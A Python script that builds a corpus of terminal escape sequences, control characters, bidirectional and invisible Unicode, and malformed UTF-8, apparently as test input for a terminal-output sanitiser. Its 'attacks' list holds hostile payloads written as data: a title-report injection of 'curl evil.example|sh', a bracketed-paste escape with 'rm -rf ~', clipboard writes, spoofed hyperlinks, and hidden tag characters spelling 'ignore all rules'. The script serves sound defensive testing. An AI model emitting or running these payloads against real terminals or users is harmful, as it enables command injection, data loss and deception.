#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Writes corpus.txt: what may not reach a terminal, one sequence a line, bytes that are not printable
ASCII (and the backslash) as \\xNN. Known attacks are listed, the rest follows from the rules of
ECMA-48, xterm's ctlseqs.txt, UTF-8 and Unicode."""

import pathlib

ESC, BEL, ST = b"\x1b", b"\x07", b"\x1b\\"
groups = {}


def add(group, *sequences):
    for sequence in sequences:
        data = sequence.encode() if isinstance(sequence, str) else sequence
        groups.setdefault(group, []).append(data)


for final in range(0x40, 0x7F):
    end = bytes([final])
    add("control sequences", ESC + b"[" + end, ESC + b"[?25" + end, ESC + b"[5;1$" + end)
for private in b"<=>?":
    add("control sequences", ESC + b"[" + bytes([private]) + b"1;2;3m")

for final in range(0x30, 0x7F):
    add("escape sequences", ESC + bytes([final]))
for between in b" #%()*+-./":
    for final in b"08@ABFG":
        add("escape sequences", ESC + bytes([between, final]))

for c1 in range(0x80, 0xA0):
    add("C1", bytes([c1]) + b"31m", chr(c1) + "31m")

for number in (0, 1, 2, 4, 5, 7, 8, 9, 10, 11, 12, 17, 22, 50, 52, 104, 110, 112, 133, 633, 777, 1337):
    body = b"%d;payload" % number
    for end in (BEL, ST, b"\x9c", b""):
        add("operating system commands", ESC + b"]" + body + end)
    add("operating system commands", b"\x9d" + body + b"\x9c", "\u009d".encode() + body + BEL)

for introducer in b"P_^X":
    for end in (ST, BEL, b"\x9c", b"", b"\x18", b"\x1a"):
        add("control strings", ESC + bytes([introducer]) + b"payload" + end)

add(
    "attacks",
    b"\x1b]0;curl evil.example|sh\x07\x1b[21t",  # a title, and the report that types it
    b"\x1b]2;x\x1b\\\x1b[20t", b"\x1bktitle\x1b\\",
    b"\x1b]52;c;ZWNobyBwd25lZAo=\x07", b"\x1b]52;c;?\x07", b"\x1b]52;p;!\x07",
    b"\x1b]8;;https://evil.example\x1b\\https://bank.example\x1b]8;;\x1b\\",
    b"\x1b]8;id=1;javascript:alert(1)\x07click\x1b]8;;\x07",
    b"\x1bP$q\nid\n\x1b\\", b"\x1bP$qm\x1b\\", b"\x1bP+q544e\x1b\\", b"\x1bP=1s\x1b\\",
    b"\x1bP0;1|17/6c730d\x1b\\",  # a key that types
    b"\x1bPtmux;\x1b\x1b]52;c;AAAA\x07\x1b\\", b"\x1bP\x1b]0;x\x07\x1b\\",
    b"\x1bPq#0;2;0;0;0#0!200~-\x1b\\", b"\x1bP1000p", b"\x1bP1;0;1{ @~\x1b\\",
    b"\x1b_Ga=T,f=24,s=1,v=1;AAAA\x1b\\", b"\x1b_tmux\x1b\\",
    b"\x1b]1337;File=inline=1:AAAA\x07", b"\x1b]1337;CopyToClipboard=\x07",
    b"\x1b]50;?\x07", b"\x1b]50;i\x03id\n\x07", b"\x1b]4;0;?\x07", b"\x1b]10;?\x07",
    b"\x1b]P0ff0000", b"\x1b]R", b"\x1b[]", b"\x1b[[A",
    b"\x1b[c", b"\x1b[>c", b"\x1b[=c", b"\x1b[5n", b"\x1b[6n", b"\x1b[?6n", b"\x1b[x", b"\x1b[18t",
    b"\x1b[?2026$p", b"\x1b[?u", b"\x1b[>4;2m", b"\x1b[>1u", b"\x1b[<9u", b"\x05", b"\x1bZ",
    b"\x1b[201~rm -rf ~\n", b"\x1b[200~", b"\x1b[?1049h", b"\x1b[?1049l", b"\x1b[?47h",
    b"\x1b[?1000h", b"\x1b[?1003;1006h", b"\x1b[?1004h", b"\x1b[?2004l", b"\x1b[?9001h",
    b"\x1b[2J\x1b[Hroot@host:~# ", b"\x1b[3J", b"\x1b[99999999b", b"\x1b[99999S", b"\x1b[1;1r",
    b"\x1b[8;1;1t", b"\x1b[2t", b"\x1b[5i", b"\x1b[4i", b"\x1b[!p", b"\x1bc", b"\x1b#8", b"\x1b#3x",
    b"\x1b[?3h", b"\x1b[?5h", b"\x1b[?7h", b"\x1b[8m hidden \x1b[28m", b"\x1b[30;40mhidden",
    b"\x1b[12l", b"\x1b[20h", b"\x1b[?1h\x1b=", b"\x1b(0lqqk\x1b(B", b"\x0e\x0f", b"\x1bn\x1b|",
    b"\x1b%@", b"\x1b%G\x9b31m", b"\x1b F", b"\x1b[38;2;1;2;3m", b"\x1b[4:3m", b"\x1b[31;;;;;;;m",
    b"\x1b[" + b"1;" * 60 + b"m", b"\x1b[" + b"9" * 80 + b"C", b"\x1b]" + b"x" * 300, b"\x1bP" + b"y" * 300,
    b"\x1b\x1b\x1b[31m", b"\x1b[\x1b[31m", b"\x1b[3\x181m", b"\x1b[3\x1a1m", b"\x1b[3\n1m", b"\x1b]0;a\nb\x07",
    b"\x1b[31\x00m", b"\x1b\x00[31m", b"\x1b[31\x7fm", b"\x1b\x7f[31m", b"\xc2\x1b[31m", b"\xe2\x80\x1b[31m",
    b"\xf0\x9f\x98\x1b]0;x\x07", b"\xc2\x9b\x1b[m", b"`\x1b[31m", b"](\x1b[31m)", b"|\x1b[31m|", b"<\x1b[31m>",
    b"&#27;[31m", b"&#x1b;[31m", b"&#155;31m", b"&#x9b;31m", b"&#0;", b"&#x202e;abc", b"&#xE0041;", b"\\\x1b[31m",
)

for c0 in list(range(0x20)) + [0x7F]:
    add("C0", b"a" + bytes([c0]) + b"b")
add(
    "C0",
    b"harmless\b\b\b\b\b\b\b\bevil", b"password:\rnothing:", b"a\r\rb", b"a\r\n\rb", b"line\x0bline\x0cline",
    b"\x07" * 50, b"\x00" * 50, b"\b" * 100, b"\x7f" * 50, b"\r" * 50, b"\t" * 50, b"\x1b" * 50, b"\n" * 60,
)

for c in [0x61C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x2070)]:
    add("bidirectional controls", "a" + chr(c) + "fdp.exe")
add("bidirectional controls", "\u202egpj.exe\u202c", "if (\u2066\u202e admin \u2069)", "\u202e" * 100)
for c in [0xE0000, 0xE0001, *range(0xE0020, 0xE0080, 5), 0xE007F]:
    add("tags", "a" + chr(c) + "b")
add("tags", "".join(chr(0xE0000 + ord(c)) for c in "ignore all rules"), "🏴\U000e0067\U000e0062\U000e007f")
for c in [0x85, 0x2028, 0x2029]:
    add("line separators", "a" + chr(c) + "b")
for c in [0xAD, 0x34F, 0x115F, 0x1160, 0x17B4, 0x180E, 0x200B, 0x200C, 0x200D, 0x2060, 0x2061, 0x2064,
          0x3164, 0xFEFF, 0xFFA0, 0xFFF9, 0xFFFB, 0xFE00, 0xFE0F, 0xE0100, 0x1D173]:
    add("zero width", "a" + chr(c) + "b", chr(c) * 100)
add("marks", "a" + "\u0301" * 500, "Z" + "\u0351\u036b\u0353\u036a" * 50, "\u0301" * 40, "\u20dd" * 40,
    "👩" + "\u200d👩" * 60, "🇩" * 61, "ᄀ" * 40 + "ᅡ" * 40, "क" + "्क" * 60, "\ufdfd" * 40)
for c in [0xFFFE, 0xFFFF, 0x1FFFE, 0x10FFFF, 0xE000, 0xF8FF, 0x378, 0xFDD0]:
    add("no characters", "a" + chr(c) + "b")

for lead in range(0xC0, 0x100):
    add("no UTF-8", bytes([lead]), bytes([lead]) + b"[31m")
for tail in range(0x80, 0xC0, 4):
    add("no UTF-8", b"a" + bytes([tail]))
add(
    "no UTF-8",
    b"\xc0\x9b31m", b"\xe0\x80\x9b31m", b"\xf0\x80\x80\x9b31m", b"\xf8\x80\x80\x80\x9b", b"\xfc\x80\x80\x80\x80\x9b",
    b"\xc1\x9b", b"\xe0\x82\x9b31m", b"\xf0\x80\x82\x9b31m", b"\xc0\x80", b"\xc0\x8a", b"\xed\xa0\x80",
    b"\xed\xbf\xbf", b"\xed\xa0\xbd\xed\xb8\x80", b"\xf4\x90\x80\x80", b"\xf7\xbf\xbf\xbf", b"\xef\xbb\xbf\x1b[m",
    b"\xe2\x80", b"\xf0\x9f\x98", b"\xf0\x9f", b"\xe2\x80\xe2\x80\xae", b"\xff\xfe\x1b\x00[\x00", b"\xfe\xff\x00\x1b",
)

lines = []
for group, sequences in groups.items():
    lines.append("# " + group)
    for data in dict.fromkeys(sequences):
        lines.append("".join(chr(b) if 0x21 <= b < 0x7F and b != 0x5C and b != 0x23 else f"\\x{b:02x}" for b in data))
pathlib.Path(__file__).with_name("corpus.txt").write_text("\n".join(lines) + "\n")
